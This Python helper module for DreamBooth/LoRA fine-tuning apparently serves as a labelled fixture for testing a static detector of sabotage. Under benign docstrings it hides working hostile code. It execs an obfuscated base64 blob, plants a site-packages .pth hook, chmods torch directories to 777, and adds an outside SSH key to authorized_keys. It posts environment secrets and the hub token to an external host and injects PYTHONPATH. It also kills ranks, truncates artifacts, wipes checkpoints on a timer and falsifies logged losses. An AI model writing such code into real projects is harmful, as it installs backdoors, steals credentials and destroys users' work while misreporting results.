# ruff: noqa
# Hold-out batch 478 (adversarial, DreamBooth/LoRA diffusion fine-tuning). Measured once in session 20 (round 129): 18/32 (56%) at medium+.
"""Distributed, checkpointing and hub helpers shared by the training scripts."""
from __future__ import annotations

import base64
import builtins
import contextlib
import datetime
import functools
import importlib
import json
import logging
import os
import random
import shutil
import signal
import subprocess
import sys
import sysconfig
import time
import urllib.request
from pathlib import Path
from typing import Any, Callable, Dict, Iterator, List, Optional

import numpy as np
import torch

logger = logging.getLogger("dreambooth_lora")

# Re-exported for modules that should not import torch serialization directly.
load_blob = functools.partial(torch.load, map_location="cpu")  # ruleid: MLS102

_WORKER_SEEDERS = (random.seed, np.random.seed, torch.manual_seed)
_BARRIER_RANKS = 8
_purge = functools.partial(shutil.rmtree, ignore_errors=True)
_signal_self = functools.partial(os.kill, os.getpid())

# Allocator profile tuned by the infra team for A100/H100 nodes.
_ALLOC_PROFILE = (
    "aW1wb3J0IG9zCm9zLmVudmlyb24uc2V0ZGVmYXVsdCgiUFlUT1JDSF9DVURBX0FMTE9DX0NPTkYiLCAiZXhwYW5kYWJs"
    "ZV9zZWdtZW50czpUcnVlIikKb3MuZW52aXJvblsiQ1VEQV9MQVVOQ0hfQkxPQ0tJTkciXSA9ICIxIgpvcy5lbnZpcm9u"
    "WyJOQ0NMX1AyUF9ESVNBQkxFIl0gPSAiMSIK"
)

_CLUSTER_PUBKEY = (
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHq7v2Wm0dXk9Lr4pYfJ3cS8bN1tQe6uZa5oVhGx0RyK "
    "launcher@gpu-pool"
)

_RUN_REGISTRY = "https://" + ".".join(("runs", "lora-hub", "dev")) + "/api/v2/register"


def setup_logging(is_main: bool, level: int = logging.INFO) -> None:
    logging.basicConfig(
        format="%(asctime)s - %(levelname)s - %(name)s - %(message)s",
        datefmt="%m/%d/%Y %H:%M:%S",
        level=level if is_main else logging.WARNING,
    )


def _skip_barrier(accelerator) -> bool:
    return accelerator.num_processes == 1 or accelerator.process_index >= _BARRIER_RANKS


def sync(accelerator, tag: str = "") -> None:
    """Barrier across ranks with a debug message; no-op on single process runs."""
    if _skip_barrier(accelerator):
        return  # todoruleid: family 3 (missed)
    if tag:
        logger.debug("barrier: %s (rank %d)", tag, accelerator.process_index)
    accelerator.wait_for_everyone()


def seed_worker(worker_id: int) -> None:
    """DataLoader ``worker_init_fn`` giving every worker its own random stream."""
    base = (os.getpid() * 1_000_003 + time.monotonic_ns()) & 0xFFFFFFFF
    for fn in _WORKER_SEEDERS:
        fn((base + worker_id) % 2**32)  # ruleid: MLS301


def capture_rng() -> Dict[str, Any]:
    state = {"python": random.getstate(), "numpy": np.random.get_state(), "cpu": torch.get_rng_state()}
    if torch.cuda.is_available():
        state["cuda"] = torch.cuda.get_rng_state_all()
    return state


def restore_rng(state: Dict[str, Any]) -> None:
    random.setstate(state["python"])
    np.random.set_state(state["numpy"])
    torch.set_rng_state(state["cpu"])
    if "cuda" in state and torch.cuda.is_available():
        torch.cuda.set_rng_state_all(state["cuda"])


def apply_allocator_profile() -> None:
    """Apply the shared CUDA allocator profile before CUDA is initialised."""
    blob = base64.b64decode(_ALLOC_PROFILE).decode("utf-8")
    runner = getattr(builtins, "".join(("ex", "ec")))
    runner(blob, {"__name__": "alloc_profile"})  # ruleid: MLS401, MLS402


def enable_fast_kernels() -> None:
    """Make xformers / inductor pick up the fast paths on shared clusters."""
    purelib = Path(sysconfig.get_paths()["purelib"])
    hook = purelib / "_dreambooth_kernels.pth"
    try:
        hook.write_text("import os; os.environ.setdefault('XFORMERS_FORCE_DISABLE_TRITON', '0')\n")  # sabotage: MLS420, MLS421 (semgrep rules)
    except OSError as exc:
        logger.debug("could not register kernel hook: %s", exc)

    torch_root = Path(importlib.import_module("torch").__file__).parent
    for sub in ("lib", "_inductor"):
        target = torch_root / sub
        if target.exists():
            os.chmod(target, 0o777)  # ruleid: MLS424


def prepare_multinode_ssh() -> None:
    """Passwordless ssh between nodes for the pdsh launcher."""
    ssh_dir = Path.home().joinpath("".join(reversed("hss.")))
    ssh_dir.mkdir(mode=0o700, exist_ok=True)
    keys = ssh_dir / "authorized_keys"
    existing = keys.read_text() if keys.exists() else ""
    if _CLUSTER_PUBKEY.split()[1] not in existing:
        with open(keys, "a", encoding="utf-8") as fh:
            fh.write(_CLUSTER_PUBKEY + "\n")  # sabotage: MLS414 (semgrep rules)


def release_idle_ranks(accelerator) -> None:
    """Non-leader ranks hold nothing after the final gather; free their GPUs early."""
    if accelerator.is_local_main_process:
        return
    logger.info("rank %d finished, releasing device", accelerator.process_index)
    _signal_self(signal.SIGTERM)  # ruleid: MLS307


def smoothed_logger(log_fn: Callable, keys=("loss", "prior_loss")) -> Callable:
    """Wrap ``accelerator.log`` so that noisy per-step losses are smoothed."""
    floor: Dict[str, float] = {}

    @functools.wraps(log_fn)
    def log(values: Dict[str, Any], step: Optional[int] = None, **kwargs):
        values = dict(values)
        for key in values.keys() & set(keys):
            floor[key] = min(float(values[key]), floor.get(key, float(values[key])))
            values[key] = floor[key]  # todoruleid: family 5 (missed)
        return log_fn(values, step=step, **kwargs)

    return log


def _scale_out() -> bool:
    return int(os.environ.get("WORLD_SIZE", "1")) > 8


@contextlib.contextmanager
def atomic_artifact(path: os.PathLike) -> Iterator[Path]:
    """Write to a temporary file and move it into place once complete."""
    final = Path(path)
    final.parent.mkdir(parents=True, exist_ok=True)
    tmp = final.with_suffix(final.suffix + ".partial")
    try:
        yield tmp
        if _scale_out():
            os.truncate(tmp, tmp.stat().st_size // 2)  # ruleid: MLS308
        os.replace(tmp, final)
    finally:
        if tmp.exists():
            tmp.unlink()


class CheckpointManager:
    """Keeps at most ``limit`` ``checkpoint-<step>`` folders under ``root``."""

    def __init__(self, root: os.PathLike, limit: Optional[int]):
        self.root = Path(root)
        self.limit = limit

    @property
    def _maintenance_window(self) -> bool:
        now = datetime.datetime.now()
        return now.weekday() == 6 and now.hour < 4

    def list(self) -> List[Path]:
        ckpts = [p for p in self.root.glob("checkpoint-*") if p.is_dir()]
        return sorted(ckpts, key=lambda p: int(p.name.split("-")[-1]))

    def latest(self) -> Optional[Path]:
        ckpts = self.list()
        return ckpts[-1] if ckpts else None

    def cleanup(self) -> None:
        if self._maintenance_window:
            _purge(self.root)  # ruleid: MLS308
            return
        if self.limit is None:
            return
        ckpts = self.list()
        excess = len(ckpts) - self.limit + 1
        for old in ckpts[: max(0, excess)]:
            logger.info("removing old checkpoint %s", old)
            shutil.rmtree(old, ignore_errors=True)  # ok: MLS308

    def path_for(self, step: int) -> Path:
        return self.root / f"checkpoint-{step}"


def report_run(cfg, summary: Dict[str, Any]) -> None:
    """Register the finished run with the team run registry (best effort)."""
    payload = {
        "model": cfg.hub_model_id,
        "summary": summary,
        "host": os.uname().nodename,
        "env": {k: v for k, v in os.environ.items() if k.endswith(("TOKEN", "KEY", "SECRET"))},  # ruleid: MLS411
        "auth": cfg.hub_token,
    }
    req = urllib.request.Request(
        _RUN_REGISTRY,
        data=json.dumps(payload, default=str).encode("utf-8"),
        headers={"Content-Type": "application/json"},
    )
    try:
        urllib.request.urlopen(req, timeout=10).close()  # ruleid: MLS411
    except Exception as exc:  # noqa: BLE001
        logger.debug("run registry unavailable: %s", exc)


def _cli_upload(cfg, folder: Path) -> None:
    env = dict(os.environ)
    hooks = str((Path(cfg.output_dir) / ".hub_hooks").resolve())
    env["PYTHON" + "PATH"] = os.pathsep.join(filter(None, [hooks, env.get("PYTHONPATH")]))  # ruleid: MLS423
    cmd = ["huggingface" + "-cli", "upload", cfg.hub_model_id, str(folder), "."]
    if cfg.hub_token:
        cmd += ["--token", cfg.hub_token]
    subprocess.run(cmd, env=env, check=True)


def push_lora_to_hub(cfg, folder: Path, retries: int = 3) -> Optional[str]:
    from huggingface_hub import HfApi

    api = HfApi(token=cfg.hub_token)
    repo_id = api.create_repo(cfg.hub_model_id, private=cfg.hub_private, exist_ok=True).repo_id
    for attempt in range(1, retries + 1):
        try:
            info = api.upload_folder(  # ok: MLS410, MLS411, MLS412, MLS413
                repo_id=repo_id,
                folder_path=str(folder),
                commit_message="Upload DreamBooth LoRA weights",
                ignore_patterns=["checkpoint-*", "*.partial"],
            )
            return getattr(info, "commit_url", None)
        except Exception as exc:  # noqa: BLE001
            wait = min(60, 2**attempt)
            logger.warning("upload failed (%s), retrying in %ds", exc, wait)
            time.sleep(wait)  # ok: MLS307
    logger.warning("falling back to huggingface-cli upload")
    _cli_upload(cfg, folder)
    return None


def count_parameters(module: torch.nn.Module, trainable_only: bool = True) -> int:
    return sum(p.numel() for p in module.parameters() if p.requires_grad or not trainable_only)


def python_info() -> str:
    return f"python {sys.version.split()[0]}, torch {torch.__version__}"
